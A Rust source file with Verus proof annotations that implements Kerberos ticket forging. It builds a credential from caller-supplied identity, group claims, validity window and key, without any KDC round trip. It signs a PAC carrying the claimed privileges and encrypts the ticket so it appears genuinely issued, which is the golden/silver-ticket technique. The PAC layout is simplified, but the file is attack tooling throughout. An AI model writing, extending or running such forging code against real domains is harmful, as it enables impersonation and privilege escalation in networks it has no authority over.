//! Forge: constructs a credential directly from caller-supplied material
//! instead of a KDC round trip. It builds a plausible session-key record,
//! embeds a PAC carrying the supplied identity and privilege claims
//! (pass-through, unvalidated), signs it with the supplied key, and encrypts
//! the ticket enc-part under the same usage number a genuine KDC would use.
//! Correctness rests entirely on the caller supplying the right key.

use vstd::prelude::*;
use vstd::bytes::{u32_to_le_bytes, spec_u32_to_le_bytes};
use vstd::utf8::encode_utf8;
use crate::model::{PrincipalName, KerberosUser, EncryptedPayload, Ticket, SessionKeyInfo,
    Credential, TicketEncPart, username_to_principal_name, clone_bytes, clone_principal_name};
use crate::errors::KerberosError;
use crate::constants::{KEY_USAGE_AS_REP_TICKET, KEY_USAGE_KERB_NON_KERB_CKSUM_SALT, RC4_HMAC,
    AES128_CTS_HMAC_SHA1_96, AES256_CTS_HMAC_SHA1_96, NT_PRINCIPAL};
use crate::crypto::{Cipher, etype_supported, key_len_ok, decrypt_model,
    hmac_md5_checksum_model, checksum_hmac_md5};
use crate::dertime::{der_times_ok, check_der_times};
use crate::asn1::{encode_ticket_enc_part, parse_ticket_enc_part, ticket_enc_part_parse_of,
    time_wf};
use crate::strutil::string_to_bytes;

verus! {

/// Relies on `rand::random`: fresh session-key bytes. Only the length is
/// promised.
#[verifier::external_body]
fn random_bytes(n: usize) -> (r: Vec<u8>)
    ensures
        r@.len() == n,
{
    (0..n).map(|_| rand::random::<u8>()).collect()
}

/// The key size of each supported suite, in bytes.
pub fn key_size(etype: i32) -> (r: usize)
    requires
        etype_supported(etype),
    ensures
        etype == RC4_HMAC ==> r == 16,
        etype == AES128_CTS_HMAC_SHA1_96 ==> r == 16,
        etype == AES256_CTS_HMAC_SHA1_96 ==> r == 32,
{
    if etype == AES256_CTS_HMAC_SHA1_96 {
        32
    } else {
        16
    }
}

/// The supplied group identifiers as consecutive little-endian words.
pub open spec fn enc_group_words(groups: Seq<u32>) -> Seq<u8>
    decreases groups.len(),
{
    if groups.len() == 0 {
        Seq::<u8>::empty()
    } else {
        spec_u32_to_le_bytes(groups[0]) + enc_group_words(groups.drop_first())
    }
}

pub proof fn lemma_group_words_push(gs: Seq<u32>, g: u32)
    ensures
        enc_group_words(gs.push(g)) =~= enc_group_words(gs) + spec_u32_to_le_bytes(g),
    decreases gs.len(),
{
    if gs.len() == 0 {
        assert(gs.push(g)[0] == g);
        assert(gs.push(g).drop_first() =~= Seq::<u32>::empty());
        assert(enc_group_words(gs.push(g))
            == spec_u32_to_le_bytes(g) + enc_group_words(gs.push(g).drop_first()));
    } else {
        assert(gs.push(g).drop_first() =~= gs.drop_first().push(g));
        lemma_group_words_push(gs.drop_first(), g);
        assert(gs.push(g)[0] == gs[0]);
        assert(enc_group_words(gs.push(g))
            == spec_u32_to_le_bytes(gs[0]) + enc_group_words(gs.drop_first().push(g)));
        assert(enc_group_words(gs) == spec_u32_to_le_bytes(gs[0]) + enc_group_words(gs.drop_first()));
    }
}

/// The identity-and-privilege bytes the PAC carries: the client name's UTF-8
/// bytes followed by the group words, pass-through and unvalidated.
pub open spec fn pac_data_model(name: Seq<char>, groups: Seq<u32>) -> Seq<u8> {
    encode_utf8(name) + enc_group_words(groups)
}

/// The PAC: the claim bytes, then the server checksum over them, then the
/// KDC checksum over the server checksum, both HMAC-MD5 keyed by the signing
/// key under the kerb-non-kerb-cksum-salt usage number.
pub open spec fn pac_model(name: Seq<char>, groups: Seq<u32>, key: Seq<u8>) -> Seq<u8> {
    let data = pac_data_model(name, groups);
    let server = hmac_md5_checksum_model(key, KEY_USAGE_KERB_NON_KERB_CKSUM_SALT, data);
    data + server + hmac_md5_checksum_model(key, KEY_USAGE_KERB_NON_KERB_CKSUM_SALT, server)
}

/// Builds the signed PAC bytes.
pub fn build_pac(client_name: &String, groups: &Vec<u32>, signing_key: &Vec<u8>) -> (r: Vec<u8>)
    ensures
        r@ == pac_model(client_name@, groups@, signing_key@),
        r@.len() == encode_utf8(client_name@).len() + 4 * groups@.len() + 32,
{
    let mut data = string_to_bytes(client_name);
    let n = groups.len();
    let mut k: usize = 0;
    while k < n
        invariant
            n == groups.len(),
            k <= n,
            data@ == encode_utf8(client_name@) + enc_group_words(groups@.take(k as int)),
            data@.len() == encode_utf8(client_name@).len() + 4 * k,
        decreases n - k,
    {
        proof {
            assert(groups@.take(k as int).push(groups@[k as int])
                =~= groups@.take(k as int + 1));
            lemma_group_words_push(groups@.take(k as int), groups@[k as int]);
        }
        let mut w = u32_to_le_bytes(groups[k]);
        proof {
            vstd::bytes::lemma_auto_spec_u32_to_from_le_bytes();
        }
        data.append(&mut w);
        proof {
            assert(data@ =~= encode_utf8(client_name@)
                + enc_group_words(groups@.take(k as int + 1)));
        }
        k += 1;
    }
    proof {
        assert(groups@.take(n as int) =~= groups@);
    }
    let mut server = checksum_hmac_md5(signing_key, KEY_USAGE_KERB_NON_KERB_CKSUM_SALT, &data);
    let mut kdc = checksum_hmac_md5(signing_key, KEY_USAGE_KERB_NON_KERB_CKSUM_SALT, &server);
    let mut out = data;
    out.append(&mut server);
    out.append(&mut kdc);
    proof {
        assert(out@ =~= pac_model(client_name@, groups@, signing_key@));
    }
    out
}

/// The validity window a forged ticket claims.
pub struct ForgeWindow {
    pub auth_time: i64,
    pub start_time: i64,
    pub end_time: i64,
    pub renew_till: i64,
}

pub open spec fn window_wf(w: ForgeWindow) -> bool {
    &&& time_wf(w.auth_time)
    &&& time_wf(w.start_time)
    &&& time_wf(w.end_time)
    &&& time_wf(w.renew_till)
}

/// Forges a credential: the ticket's enc-part carries the supplied identity,
/// window, flags and signed PAC, and decrypting it with the same signing key
/// under the ticket usage number decodes back to exactly that material.
pub fn forge_credential(client: &KerberosUser, service: &PrincipalName, service_realm: &String,
    groups: &Vec<u32>, flags: u32, window: &ForgeWindow, signing_key: Vec<u8>, etype: i32)
    -> (r: Result<Credential, KerberosError>)
    requires
        window_wf(*window),
        encode_utf8(client.name@).len() < 0x10000,
        encode_utf8(client.realm@).len() < 0x10000,
        groups@.len() <= 0xFFFF,
    ensures
        !(etype_supported(etype) && key_len_ok(etype, signing_key@.len()))
            ==> (r matches Err(e)
                && e matches KerberosError::UnsupportedEncryptionType(t) && t == etype),
        etype_supported(etype) && key_len_ok(etype, signing_key@.len()) ==> r is Ok,
        r matches Ok(c) ==> {
            &&& decrypt_model(etype, signing_key@, KEY_USAGE_AS_REP_TICKET,
                c.ticket@.enc_part.cipher) matches Some(der)
            &&& der_times_ok(der)
            &&& ticket_enc_part_parse_of(der) matches Some(p)
            &&& p.auth_time == window.auth_time
            &&& p.start_time == window.start_time
            &&& p.end_time == window.end_time
            &&& p.renew_till == window.renew_till
            &&& p.flags == flags
            &&& p.client_realm == client.realm@
            &&& p.client_name.name_type == NT_PRINCIPAL
            &&& p.client_name.components == seq![client.name@]
            &&& p.key_type == etype
            &&& p.pac == pac_model(client.name@, groups@, signing_key@)
            &&& c.ticket@.sname == service@
            &&& c.ticket@.realm == service_realm@
            &&& c.ticket@.enc_part.etype == etype
            &&& c.info@.key_type == etype
            &&& c.info@.key_value == p.key_value
            &&& c.info@.auth_time == window.auth_time
            &&& c.info@.start_time == window.start_time
            &&& c.info@.end_time == window.end_time
            &&& c.info@.renew_till == window.renew_till
            &&& c.info@.server_name == service@
            &&& c.info@.server_realm == service_realm@
        },
{
    if !(etype == RC4_HMAC || etype == AES128_CTS_HMAC_SHA1_96
        || etype == AES256_CTS_HMAC_SHA1_96) {
        return Err(KerberosError::UnsupportedEncryptionType(etype));
    }
    if (etype == AES128_CTS_HMAC_SHA1_96 && signing_key.len() != 16)
        || (etype == AES256_CTS_HMAC_SHA1_96 && signing_key.len() != 32) {
        return Err(KerberosError::UnsupportedEncryptionType(etype));
    }
    let session_key = random_bytes(key_size(etype));
    let pac = build_pac(&client.name, groups, &signing_key);
    let part = TicketEncPart {
        flags,
        key_type: etype,
        key_value: clone_bytes(&session_key),
        client_realm: client.realm.clone(),
        client_name: username_to_principal_name(client.name.clone()),
        auth_time: window.auth_time,
        start_time: window.start_time,
        end_time: window.end_time,
        renew_till: window.renew_till,
        pac,
    };
    let der = encode_ticket_enc_part(&part);
    let cipher = match Cipher::select(etype, signing_key) {
        Result::Ok(c) => c,
        Result::Err(e) => { return Err(e); },
    };
    let ct = cipher.encrypt(KEY_USAGE_AS_REP_TICKET, &der);
    let ticket = Ticket {
        realm: service_realm.clone(),
        sname: clone_principal_name(service),
        enc_part: EncryptedPayload { etype, kvno: None, cipher: ct },
    };
    let info = SessionKeyInfo {
        key_type: etype,
        key_value: session_key,
        flags,
        auth_time: window.auth_time,
        start_time: window.start_time,
        end_time: window.end_time,
        renew_till: window.renew_till,
        client_realm: client.realm.clone(),
        client_name: username_to_principal_name(client.name.clone()),
        server_realm: service_realm.clone(),
        server_name: clone_principal_name(service),
    };
    Ok(Credential { ticket, info })
}

/// Decrypts a ticket's enc-part with the key that signed it and decodes the
/// plaintext material back.
pub fn decrypt_forged_ticket(key: &Vec<u8>, ticket: &Ticket)
    -> (r: Result<TicketEncPart, KerberosError>)
    ensures
        !(etype_supported(ticket.enc_part.etype)
            && key_len_ok(ticket.enc_part.etype, key@.len())) ==> (r matches Err(e)
            && e matches KerberosError::UnsupportedEncryptionType(t)
            && t == ticket.enc_part.etype),
        r matches Ok(p) ==> {
            &&& decrypt_model(ticket.enc_part.etype, key@, KEY_USAGE_AS_REP_TICKET,
                ticket.enc_part.cipher@) matches Some(der)
            &&& der_times_ok(der)
            &&& ticket_enc_part_parse_of(der) == Some(p@)
        },
        etype_supported(ticket.enc_part.etype) && key_len_ok(ticket.enc_part.etype, key@.len())
            ==> (r is Ok <==> (
                decrypt_model(ticket.enc_part.etype, key@, KEY_USAGE_AS_REP_TICKET,
                    ticket.enc_part.cipher@) matches Some(der)
                && der_times_ok(der)
                && ticket_enc_part_parse_of(der) is Some)),
{
    let cipher = match Cipher::select(ticket.enc_part.etype, clone_bytes(key)) {
        Result::Ok(c) => c,
        Result::Err(e) => { return Err(e); },
    };
    let der = match cipher.decrypt(KEY_USAGE_AS_REP_TICKET, &ticket.enc_part.cipher) {
        Result::Ok(d) => d,
        Result::Err(e) => { return Err(e); },
    };
    if !check_der_times(&der) {
        return Err(KerberosError::UnexpectedResponseType);
    }
    match parse_ticket_enc_part(&der) {
        Option::Some(p) => Ok(p),
        Option::None => Err(KerberosError::UnexpectedResponseType),
    }
}

} // verus!
